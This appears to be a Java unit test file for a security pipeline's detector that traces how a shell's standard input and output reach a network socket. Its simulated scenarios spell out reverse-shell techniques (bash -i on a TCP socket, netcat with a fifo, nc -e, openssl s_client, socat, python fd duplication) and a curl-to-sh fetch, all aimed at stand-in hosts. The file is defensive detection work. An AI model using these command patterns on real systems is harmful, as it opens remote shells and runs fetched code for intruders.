/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.pipeline.refine;

import static io.acheron.pipeline.refine.Scene.fifo;
import static io.acheron.pipeline.refine.Scene.inet;
import static io.acheron.pipeline.refine.Scene.master;
import static io.acheron.pipeline.refine.Scene.nothing;
import static io.acheron.pipeline.refine.Scene.pipeIn;
import static io.acheron.pipeline.refine.Scene.pipeOut;
import static io.acheron.pipeline.refine.Scene.pts;
import static io.acheron.pipeline.refine.Scene.remote;
import static io.acheron.pipeline.refine.Scene.tcp;
import static io.acheron.pipeline.refine.Scene.unix;
import static org.assertj.core.api.Assertions.assertThat;

import io.acheron.pipeline.refine.Scene.Actor;
import io.acheron.schema.event.CaptureSource;
import io.acheron.schema.event.Descriptor;
import io.acheron.schema.event.Event;
import io.acheron.schema.event.ProcessRef;
import io.acheron.schema.event.Socket;
import io.acheron.schema.event.SocketRole;
import io.acheron.schema.payload.Hop;
import io.acheron.schema.payload.HopKind;
import io.acheron.schema.payload.StdioSocket;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** The ways in which a shell is joined to a socket: each is seen, with the path between them. */
class StdioGraphTest extends StdioGraphScene {
    @Test
    void shouldSeeBashOnDevTcp() {
        Actor bash = scene.fork(login, 311);
        Socket socket = remote(900);
        scene.connect(bash, 3, socket);
        Event exec = scene.exec(
                bash, "/usr/bin/bash", List.of("bash", "-i"), inet(0, socket), inet(1, socket), inet(2, socket));

        List<Event> facts = facts();
        assertThat(facts).hasSize(2);
        StdioSocket late = facts.get(0).getStdioSocket();
        assertThat(late.getStdin() || late.getStdout())
                .as("at the connect nothing is redirected yet")
                .isFalse();
        assertThat(late.getPathText())
                .isEqualTo("bash[311] connected fd 3 -> tcp 192.0.2.10:40900 -> 203.0.113.5:4444");

        Event fact = facts.get(1);
        StdioSocket direct = fact.getStdioSocket();
        assertThat(direct.getInterpreter()).isEqualTo("bash");
        assertThat(direct.getInteractive()).isTrue();
        assertThat(directions(direct)).isEqualTo("in out err");
        assertThat(direct.getHops()).isZero();
        assertThat(direct.getSocketAgeKnown()).isTrue();
        assertThat(direct.getSocketAgeMs()).isEqualTo(1);
        assertThat(direct.getSocket().getRole()).isEqualTo(SocketRole.CONNECT);
        assertThat(direct.getHolder().getPid()).isEqualTo(311);
        assertThat(direct.getHolderRelated()).isTrue();
        assertThat(direct.getPathOut()).extracting(Hop::getKind).containsExactly(HopKind.SAME_SOCKET);
        assertThat(direct.getPathText())
                .isEqualTo("bash[311] stdin+stdout -> tcp 192.0.2.10:40900 -> 203.0.113.5:4444"
                        + " (connected 1 ms before the exec)");
        assertThat(fact.getHeader().getSource()).isEqualTo(CaptureSource.DERIVED);
        assertThat(fact.getHeader().getSequence()).isEqualTo(exec.getHeader().getSequence());
        assertThat(fact.getProcess().getPid()).isEqualTo(311);
        assertThat(fact.getFacts().getEvidence()).containsExactlyInAnyOrder(id(0), id(1), id(2));
    }

    @Test
    void shouldSeeFifoWithNetcat() {
        Scene fifo = this.scene;
        Actor cat = fifo.fork(login, 310);
        Actor sh = fifo.fork(login, 311);
        Actor nc = fifo.fork(login, 312);
        fifo.exec(cat, "/usr/bin/cat", List.of("cat", "/tmp/f"), pts(0, 1), pipeOut(1, 71), pts(2, 1));
        fifo.exec(sh, "/usr/bin/dash", List.of("sh", "-i"), pipeIn(0, 71), pipeOut(1, 72), pipeOut(2, 72));
        fifo.exec(
                nc,
                "/usr/bin/nc.openbsd",
                List.of("nc", "203.0.113.5", "4444"),
                pipeIn(0, 72),
                fifo(1, 99, "/tmp/f", false, true),
                pts(2, 1));
        fifo.pause(200);
        fifo.connect(nc, 3, remote(900));

        StdioSocket fact = onlyBothWays();
        assertThat(fact.getInterpreter()).isEqualTo("dash");
        assertThat(directions(fact)).isEqualTo("in out err");
        assertThat(fact.getHolder().getPid()).isEqualTo(312);
        assertThat(fact.getHolderRelated()).isTrue();
        assertThat(fact.getSocketAgeMs()).isNegative();
        assertThat(fact.getHops()).isEqualTo(2);
        assertThat(fact.getPathIn()).extracting(Hop::getKind).containsExactly(HopKind.PIPE, HopKind.FIFO);
        assertThat(fact.getPathText())
                .isEqualTo("sh[311] stdout -> pipe:[72] -> nc.openbsd[312] fd 3 -> tcp 192.0.2.10:40900 ->"
                        + " 203.0.113.5:4444 (connected 0.2 s after the exec); stdin <- pipe:[71] <- cat[310] <-"
                        + " fifo /tmp/f <- nc.openbsd[312] fd 3 <- tcp 192.0.2.10:40900 -> 203.0.113.5:4444");
    }

    @Test
    void shouldSeeFifoWithNetcatInWhateverOrderTheEventsArrive() {
        shouldSeeFifoWithNetcat();
        List<Event> events = new ArrayList<>(scene.events);
        for (int seed = 0; seed < 200; seed++) {
            Collections.shuffle(events, new Random(seed));
            List<Event> both = Bench.derived(new Bench().run(events), "stdio_socket").stream()
                    .filter(event -> event.getStdioSocket().getStdin()
                            && event.getStdioSocket().getStdout())
                    .toList();
            assertThat(both).as("order of seed " + seed).hasSize(1);
        }
    }

    @Test
    void shouldSeeFifoWithOpenssl() {
        Actor sh = scene.fork(login, 311);
        Actor openssl = scene.fork(login, 312);
        Descriptor input = fifo(0, 99, "/tmp/s", true, false);
        scene.exec(sh, "/usr/bin/dash", List.of("/bin/sh", "-i"), input, pipeOut(1, 72), pipeOut(2, 72));
        scene.exec(
                openssl,
                "/usr/bin/openssl",
                List.of("openssl", "s_client", "-quiet", "-connect", "203.0.113.5:443"),
                pipeIn(0, 72),
                fifo(1, 99, "/tmp/s", false, true),
                pts(2, 1));
        scene.connect(openssl, 3, remote(900));
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getHops()).isEqualTo(1);
        assertThat(fact.getPathIn()).extracting(Hop::getKind).containsExactly(HopKind.FIFO);
        assertThat(fact.getPathOut()).extracting(Hop::getKind).containsExactly(HopKind.PIPE);
    }

    @Test
    void shouldSeeNetcatThatBecomesTheShell() {
        Actor nc = scene.fork(login, 311);
        scene.exec(nc, "/usr/bin/nc.traditional", List.of("nc", "-e", "/bin/sh"), pts(0, 1), pts(1, 1), pts(2, 1));
        Socket socket = remote(900);
        scene.connect(nc, 3, socket);
        scene.exec(nc, "/usr/bin/dash", List.of("sh"), inet(0, socket), inet(1, socket), inet(2, socket));
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getInterpreter()).isEqualTo("dash");
        assertThat(fact.getInteractive()).isTrue();
        assertThat(last().getFacts().getPreviousExecutable()).isEqualTo("/usr/bin/nc.traditional");
    }

    @Test
    void shouldSeeSocatWithTerminal() {
        Actor socat = socat();
        Actor child = scene.fork(socat, 312);
        socat.held.add(master(7, 4));
        child.session = 312;
        scene.exec(child, "/usr/bin/bash", List.of("bash"), pts(0, 4), pts(1, 4), pts(2, 4));
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getPathIn()).extracting(Hop::getKind).containsExactly(HopKind.PTY);
        assertThat(fact.getHolder().getName()).isEqualTo("socat");
        assertThat(fact.getHolderRelated()).isTrue();
        assertThat(fact.getPathText())
                .startsWith("bash[312] stdin+stdout -> pts/4 -> socat[311] fd 5 -> tcp 192.0.2.10:40900");
    }

    @Test
    void shouldSeeSocatWithSocketPair() {
        Actor socat = socat();
        Actor child = scene.fork(socat, 312);
        socat.held.add(unix(6, 801, 802));
        scene.exec(child, "/usr/bin/bash", List.of("bash"), unix(0, 802, 801), unix(1, 802, 801), pts(2, 1));
        StdioSocket fact = onlyBothWays();
        assertThat(directions(fact)).isEqualTo("in out");
        assertThat(fact.getPathOut()).extracting(Hop::getKind).containsExactly(HopKind.UNIX_PAIR);
        assertThat(fact.getPathOut().get(0).getHolderFd()).isEqualTo(6);
    }

    @Test
    void shouldSeePythonThatDuplicatesItsSocketForAShell() {
        Actor python = python();
        Socket socket = remote(900);
        scene.connect(python, 3, socket);
        Actor sh = scene.fork(python, 312);
        scene.exec(sh, "/usr/bin/dash", List.of("/bin/sh", "-i"), inet(0, socket), inet(1, socket), inet(2, socket));
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getInterpreter()).isEqualTo("dash");
        assertThat(fact.getSocketAgeKnown()).isTrue();
    }

    @Test
    void shouldNotShowTheNameAShellMadeUpForItself() {
        Actor bash = scene.fork(login, 311);
        Socket socket = remote(900);
        scene.connect(bash, 3, socket);
        scene.exec(bash, "/usr/bin/bash", List.of("[kworker/1:2]", "-i"), inet(0, socket), inet(1, socket), nothing(2));
        assertThat(onlyBothWays().getPathText()).startsWith("bash[311] stdin+stdout -> tcp");
    }

    @Test
    void shouldSeePythonWithTerminal() {
        Actor python = python();
        scene.connect(python, 3, remote(900));
        Actor sh = scene.fork(python, 312);
        sh.session = 312;
        python.held.add(master(4, 9));
        scene.exec(sh, "/usr/bin/dash", List.of("/bin/sh"), pts(0, 9), pts(1, 9), pts(2, 9));
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getHolder().getPid()).isEqualTo(311);
        assertThat(fact.getPathIn()).extracting(Hop::getKind).containsExactly(HopKind.PTY);
    }

    @Test
    void shouldSeeAShellThatOnlyEverSeesPipes() {
        Actor python = python();
        scene.connect(python, 3, remote(900));
        relayedShell(python);
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getHolder().getPid()).isEqualTo(311);
        assertThat(directions(fact)).isEqualTo("in out err");
        assertThat(fact.getHops()).isEqualTo(1);
    }

    @Test
    void shouldSeeARelayThatConnectsLongAfterTheShellBegan() {
        Actor python = python();
        relayedShell(python);
        scene.pause(90_000);
        scene.connect(python, 9, remote(900));
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getSocketAgeMs()).isLessThan(-90_000);
        assertThat(fact.getPathText()).contains("(connected 90.0 s after the exec)");
    }

    @Test
    void shouldSeeARelayOverASecondProcess() {
        Actor outer = python();
        Actor inner = scene.fork(outer, 312);
        outer.held.add(pipeOut(4, 81));
        outer.held.add(pipeIn(5, 82));
        scene.exec(inner, "/opt/relay", List.of("relay"), pipeIn(0, 81), pipeOut(1, 82), nothing(2));
        inner.held.clear();
        inner.held.addAll(List.of(pipeIn(0, 81), pipeOut(1, 82), pipeOut(6, 83), pipeIn(7, 84)));
        Actor sh = scene.fork(inner, 313);
        scene.exec(sh, "/usr/bin/dash", List.of("sh"), pipeIn(0, 83), pipeOut(1, 84), pipeOut(2, 84));
        scene.connect(outer, 3, remote(900));
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getHops()).isEqualTo(2);
        assertThat(fact.getPathOut())
                .extracting(hop -> hop.getHolder().getPid())
                .containsExactly(312, 311);
    }

    @Test
    void shouldSeeTwoTelnetClientsAsOneConversation() {
        Actor in = scene.fork(login, 310);
        Actor sh = scene.fork(login, 311);
        Actor out = scene.fork(login, 312);
        scene.exec(in, "/usr/bin/telnet", List.of("telnet", "203.0.113.5", "1"), pts(0, 1), pipeOut(1, 71), pts(2, 1));
        scene.exec(sh, "/usr/bin/dash", List.of("sh"), pipeIn(0, 71), pipeOut(1, 72), pts(2, 1));
        scene.exec(out, "/usr/bin/telnet", List.of("telnet", "203.0.113.5", "2"), pipeIn(0, 72), pts(1, 1), pts(2, 1));
        scene.connect(in, 3, tcp(900, "192.0.2.10", 40001, "203.0.113.5", 1));
        scene.connect(out, 3, tcp(901, "192.0.2.10", 40002, "203.0.113.5", 2));
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getSocket().getRemotePort()).isEqualTo(2);
        assertThat(fact.getPathIn().get(0).getHolder().getPid()).isEqualTo(310);
        assertThat(fact.getPathOut().get(0).getHolder().getPid()).isEqualTo(312);
    }

    @Test
    void shouldSeeAShellDetachedByTwoForks() {
        Actor python = python();
        Socket socket = remote(900);
        scene.connect(python, 3, socket);
        Actor middle = scene.fork(python, 312);
        Actor child = scene.fork(middle, 313);
        scene.exit(middle);
        scene.exit(python);
        child.parent = scene.old(1, "/sbin/init");
        child.session = 313;
        child.group = 313;
        scene.exec(child, "/usr/bin/bash", List.of("bash", "-i"), inet(0, socket), inet(1, socket), inet(2, socket));
        StdioSocket fact = onlyBothWays();
        assertThat(fact.getSocketAgeKnown()).isTrue();
        assertThat(last().getFacts().getAncestry())
                .extracting(ProcessRef::getPid)
                .containsExactly(312, 311, 50);
    }

    @Test
    void shouldSeeAShellThatConnectsByItselfAndNeverExecs() {
        Actor bash = scene.fork(login, 311);
        scene.exec(bash, "/usr/bin/bash", List.of("bash", "/tmp/x.sh"), pts(0, 1), pts(1, 1), pts(2, 1));
        scene.connect(bash, 5, remote(900));
        List<Event> facts = facts();
        assertThat(facts).hasSize(1);
        StdioSocket fact = facts.get(0).getStdioSocket();
        assertThat(directions(fact)).isEmpty();
        assertThat(fact.getHops()).isZero();
        assertThat(fact.getInteractive()).isFalse();
        assertThat(fact.getPathText())
                .startsWith("bash[311] connected fd 5 -> tcp")
                .contains("after the exec");
        assertThat(fact.getArgv()).containsExactly("bash", "/tmp/x.sh");
    }

    @Test
    void shouldSayThatOnlyInputComesFromTheSocketWhenAScriptIsFetched() {
        Actor curl = scene.fork(login, 310);
        Actor sh = scene.fork(login, 311);
        scene.exec(curl, "/usr/bin/curl", List.of("curl", "http://x/i.sh"), pts(0, 1), pipeOut(1, 71), pts(2, 1));
        scene.exec(sh, "/usr/bin/dash", List.of("sh"), pipeIn(0, 71), pts(1, 1), pts(2, 1));
        scene.connect(curl, 5, remote(900));
        List<Event> facts = facts();
        assertThat(facts).hasSize(1);
        StdioSocket fact = facts.get(0).getStdioSocket();
        assertThat(directions(fact)).isEqualTo("in");
        assertThat(fact.getPathText()).startsWith("sh[311] stdin <- pipe:[71] <- curl[310] fd 5 <- tcp");
    }

    @Test
    void shouldSayThatOnlyOutputGoesToTheSocketWhenAReportIsSent() {
        Actor sh = scene.fork(login, 311);
        Actor nc = scene.fork(login, 312);
        scene.exec(sh, "/usr/bin/dash", List.of("sh", "report.sh"), nothing(0), pipeOut(1, 72), pts(2, 1));
        scene.exec(nc, "/usr/bin/nc", List.of("nc", "log", "514"), pipeIn(0, 72), pts(1, 1), pts(2, 1));
        scene.connect(nc, 3, remote(900));
        List<Event> facts = facts();
        assertThat(facts).hasSize(1);
        assertThat(directions(facts.get(0).getStdioSocket())).isEqualTo("out");
    }
}
